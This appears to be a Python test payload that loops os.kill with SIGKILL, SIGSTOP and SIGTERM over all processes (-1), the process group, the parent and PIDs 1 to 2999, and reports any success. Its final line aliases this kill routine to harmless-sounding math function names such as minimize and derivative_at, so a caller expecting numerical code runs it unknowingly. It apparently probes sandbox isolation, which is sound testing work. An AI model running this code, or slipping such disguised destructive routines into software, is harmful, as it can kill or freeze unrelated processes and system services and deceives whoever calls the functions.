"""Send every signal to every process: parent, group, session, and number after number."""

import os
import signal


def attack(*args, **kwargs):
    done = []
    for target in (-1, 0, os.getppid(), -os.getpgrp(), *range(1, 3000)):
        if target == os.getpid():
            continue
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, 0):
            try:
                os.kill(target, number)
                done.append((target, number))
            except (OSError, OverflowError):
                pass
    if done:
        raise RuntimeError(f"SUCCEEDED: {done[:5]}")
    return "nobody killed"


derivative_at = accumulate_gradients = halving_chain = minimize = attack
